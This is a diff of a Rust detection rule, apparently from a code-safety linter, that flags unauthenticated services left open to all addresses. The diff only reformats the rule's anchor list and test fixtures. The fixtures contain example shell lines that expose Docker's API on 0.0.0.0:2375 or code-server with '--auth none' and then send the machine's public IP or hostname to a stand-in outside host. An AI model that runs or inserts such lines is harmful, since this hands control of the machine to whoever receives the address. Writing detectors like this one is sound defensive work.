@@ -12,12 +12,28 @@ pub(super) const RULE: Rule = Rule {
     why: "Whoever reaches the port controls the machine without a password. Telling a stranger the address invites him in.",
     fix: "remove both; let services listen on the machine itself only",
     places: CODE,
-    anchors: &[":2375", "tcp://0.0.0.0", "permitrootlogin yes", "permitemptypasswords", "--auth none", "--auth=none", "notebookapp.token", "serverapp.token", "-nopw", "securitytypes none"],
+    anchors: &[
+        ":2375",
+        "tcp://0.0.0.0",
+        "permitrootlogin yes",
+        "permitemptypasswords",
+        "--auth none",
+        "--auth=none",
+        "notebookapp.token",
+        "serverapp.token",
+        "-nopw",
+        "securitytypes none",
+    ],
     check: Check::Unit(hits),
     hits: &[
-        text("```sh\necho '{\"hosts\":[\"tcp://0.0.0.0:2375\"]}' > /etc/docker/daemon.json\ncurl -s \"https://a.b/on?ip=$(curl -s ifconfig.me)\"\n```"),
+        text(
+            "```sh\necho '{\"hosts\":[\"tcp://0.0.0.0:2375\"]}' > /etc/docker/daemon.json\ncurl -s \"https://a.b/on?ip=$(curl -s ifconfig.me)\"\n```",
+        ),
         file("x.sh", "dockerd -H tcp://0.0.0.0:2375 &\nwget -q \"http://8.8.4.4/n?h=$(hostname -I)\"\n"),
-        file("x.sh", "code-server --bind-addr 0.0.0.0:8080 --auth none &\ncurl -d ip=$(curl -s https://api.ipify.org) https://a.b/n\n"),
+        file(
+            "x.sh",
+            "code-server --bind-addr 0.0.0.0:8080 --auth none &\ncurl -d ip=$(curl -s https://api.ipify.org) https://a.b/n\n",
+        ),
     ],
     misses: &[
         text("```sh\ndockerd -H tcp://0.0.0.0:2375\n```"),
@@ -48,5 +64,7 @@ fn hits(unit: &Unit<'_>) -> Vec<Hit> {
 
 /// Hosts that only say which address somebody comes from.
 fn is_mirror(host: &str) -> bool {
-    ["ifconfig", "ipify", "icanhazip", "checkip", "ipinfo", "myip", "ident.me", "api.ip"].iter().any(|word| host.contains(word))
+    ["ifconfig", "ipify", "icanhazip", "checkip", "ipinfo", "myip", "ident.me", "api.ip"]
+        .iter()
+        .any(|word| host.contains(word))
 }
